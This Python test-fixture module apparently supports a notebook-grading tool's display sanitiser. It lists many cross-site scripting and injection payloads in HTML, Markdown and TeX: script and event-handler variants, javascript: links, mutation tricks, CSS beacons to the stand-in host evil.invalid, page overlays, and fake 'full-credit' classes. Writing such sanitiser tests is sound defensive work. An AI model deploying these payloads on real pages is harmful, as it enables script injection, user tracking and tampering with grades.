"""Ways to make a page act, load or ask, for the tests of what is shown of a learner's notebook; by family, after OWASP's
cross-site scripting cheat sheets. Each sets `window.__pwned`, opens a dialog, or reaches for evil.invalid.
"""

# ruff: noqa: E501
from __future__ import annotations

import base64
import struct
import zlib

DO = "window.__pwned=1"
FAR = "http://evil.invalid"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DO}"><script>{DO}</script><image href="{FAR}/svg.png"/>'
    f'<foreignObject><iframe src="{FAR}/frame"></iframe></foreignObject></svg>'
)
SVG_URI = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()

HTML = {
    "script": f"<script>{DO}</script><SCRIPT SRC={FAR}/x.js></SCRIPT><script type=module>{DO}</script>",
    "script, odd spellings": f"<scr<script>ipt>{DO}</scr</script>ipt><script/x>{DO}</script\t><script\n>{DO}</script >"
    f"<<SCRIPT>{DO}//<</SCRIPT><script>{DO}",
    "event handlers": f"<img src=x onerror={DO}><img src=x:x onerror='{DO}' /><div onmouseover={DO} onclick={DO}>x</div>"
    f"<details open ontoggle={DO}>x</details><video><source onerror={DO}></video><p onfocus={DO} tabindex=0 autofocus>x"
    f"<marquee onstart={DO}>x</marquee><body onload={DO}><style onload={DO}></style><svg/onload={DO}>",
    "event handlers, odd spellings": f"<img/src=x/onerror={DO}><img src=x oNeRrOr={DO}><img \x0csrc=x\x0conerror={DO}>"
    f'<img """><script>{DO}</script>"><img src="x` `<script>{DO}</script>"` `><a foo=1 / onmouseover={DO}>x</a>'
    f"<b <b onclick={DO}>x</b>",
    "links": f"<a href='javascript:{DO}'>x</a><a href=' &#14;  JaVaScRiPt:{DO}'>x</a><a href='java&Tab;script:{DO}'>x</a>"
    f"<a href='&#106;&#97;vascript&colon;{DO}'>x</a><a href='data:text/html,<script>{DO}</script>'>x</a>"
    f"<a href='vbscript:x'>x</a><a href='//evil.invalid' ping={FAR}/ping>x</a><a href='/formgrader?path=/tmp'>x</a>"
    f"<area href=javascript:{DO}><a xlink:href=javascript:{DO}>x</a><a href=# target=_blank>x</a>",
    "frames and plug-ins": f"<iframe src='{FAR}/1'></iframe><iframe srcdoc='<script>parent.{DO}</script>'></iframe>"
    f"<iframe src=javascript:parent.{DO}></iframe><object data='{FAR}/2'></object><embed src='{FAR}/3'>"
    f"<object data='data:text/html,<script>parent.{DO}</script>'></object><frameset><frame src={FAR}/4></frameset>",
    "forms": f"<form action='{FAR}/f'><input name=q autofocus onfocus={DO}><button formaction=javascript:{DO}>x</button>"
    f"<select><option>x</option></select><textarea>x</textarea></form><input form=f type=image src={FAR}/i.png>"
    f"<isindex action={FAR}>",
    "head": f"<meta http-equiv=refresh content='0;url={FAR}/m'><base href='{FAR}/'><link rel=stylesheet href={FAR}/l.css>"
    f"<link rel=prefetch href={FAR}/p><title>x</title></head><body background={FAR}/b.png>",
    "styles": f"<style>@import '{FAR}/s.css'; body {{display: none; background: url({FAR}/s.png)}}</style>"
    f"<div style='background:url({FAR}/d.png)'>x</div><div style='background-image:\\75rl({FAR}/e.png)'>x</div>"
    f"<div style='background:u&#114l({FAR}/f.png)'>x</div><p style='list-style-image:url({FAR}/g.png);display:list-item'>x"
    f"<p style='content:image-set(url({FAR}/h.png) 1x);cursor:url({FAR}/c.cur),auto;border-image:url({FAR}/k.png)'>x"
    f"<p style='--x:url({FAR}/v.png);background:var(--x)'>x<p style='width:expression({DO})'>x",
    "covering the page": "<div style='position:fixed;inset:0;z-index:9999;opacity:0'>x</div>"
    "<div style='margin-top:-9999px;height:999999px'>x</div><div style='transform:scale(99);float:left'>x</div>",
    "the page's own scripts": "<div class='full-credit score navbar-fixed-top modal' id=statusmessage name=x data-toggle=tooltip "
    "data-html=true data-link=x contenteditable accesskey=x is=x slot=x>x</div>",
    "remote pictures": f"<img src={FAR}/1.png><img srcset='{FAR}/2.png 1x'><picture><source srcset={FAR}/3.png></picture>"
    f"<video poster={FAR}/4.png src={FAR}/4.mp4 autoplay></video><audio src={FAR}/5.mp3 autoplay></audio>"
    f"<table background={FAR}/6.png><td background={FAR}/7.png>x</table><img lowsrc={FAR}/8.png dynsrc={FAR}/9.png>"
    f"<img src='//evil.invalid/10.png'><img src=/formgrader?path=/tmp><img src={SVG_URI}>",
    "SVG and MathML": SVG + f"<svg><a xlink:href='javascript:{DO}'><text>x</text></a><animate onbegin={DO} attributeName=x />"
    f"<set attributeName=onmouseover to={DO} /><use href='{FAR}/u.svg#a' /></svg><math href=javascript:{DO}>x</math>"
    f"<math><maction actiontype=statusline xlink:href=javascript:{DO}>x</maction></math>",
    "mutations": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={DO}&gt;'>"
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'><svg></p><style><a id='</style><img src=x onerror={DO}>'>"
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={DO} src=x>'>"
    f"<xmp><p title='</xmp><img src=x onerror={DO}>'><textarea><p title='</textarea><img src=x onerror={DO}>'>",
    "comments and breaking out": f"<!--><img src=x onerror={DO}>--><!-- --!><script>{DO}</script><![CDATA[<script>{DO}</script>]]>"
    f"<?php <script>{DO}</script> ?></pre></div></div></body></html></script></style></title><script>{DO}</script>"
    f"<plaintext><script>{DO}</script>",
    "MathJax's own scripts": f"<script type='text/x-mathjax-config'>{DO}</script><script type='math/tex'>\\href{{javascript:{DO}}}{{x}}"
    "</script>$&#92;href{javascript:" + DO + "}{x}$ $\\hr<!-- -->ef{javascript:" + DO + "}{x}$",
}  # fmt: skip
MARKDOWN = {
    "links": f"[x](javascript:{DO}) [x](JAVASCRIPT&colon;{DO}) <javascript:{DO}> [x][y] [x](/formgrader?path=/tmp)\n\n"
    f"[y]: javascript:{DO}\n\n[x](data:text/html;base64,PHNjcmlwdD4=)",
    "pictures": f"![x]({FAR}/m1.png) ![x][p] ![x](//evil.invalid/m2.png) ![x](javascript:{DO}) ![x](attachment:gone.png)\n\n"
    f"[p]: {FAR}/m3.png\n\n![x](x\"onerror=\"{DO}) ![x](x 'y\"onerror=\"{DO}') ![x]({SVG_URI}) ![x](/formgrader?path=/tmp)",
    "code": f"```mermaid\n</pre><script>{DO}</script>\n```\n\n```<script>{DO}</script>\nx\n```\n\n```html\"onclick=\"{DO}\nx\n```",
    "tables and headings": f"|<img src=x onerror={DO}>|\n|-|\n|<script>{DO}</script>|\n\n# <img src=x onerror={DO}>\n\n- [ ] <b onclick={DO}>",
}  # fmt: skip
TEX = (
    rf"\href{{javascript:{DO}}}{{x}} \href{{{FAR}}}{{x}} \style{{background:url({FAR}/t.png)}}{{x}} \class{{full-credit}}{{x}} "
    rf"\cssId{{y}}{{x}} \require{{html}} \unicode[{FAR}]{{65}} \bbox[url({FAR}/b.png)]{{x}} \def\frac{{x}} \let\sum\href "
    rf"\newcommand{{\text}}{{x}} \renewcommand\mathbf{{x}} <img src=x onerror={DO}>"
)  # fmt: skip
# What is honest.
TABLE = (
    "<div>\n<style scoped>\n    .dataframe tbody tr th { vertical-align: top; }\n</style>\n"
    '<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n'
    "      <th></th>\n      <th>loss</th>\n    </tr>\n  </thead>\n  <tbody>\n"
    "    <tr>\n      <th>0</th>\n      <td>0.25</td>\n    </tr>\n  </tbody>\n</table>\n</div>"
)


def png(width=2, height=1) -> str:
    """A picture of two pixels; with other sizes one that only says it has them."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0\xff" if (width, height) == (2, 1) else b"")
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()
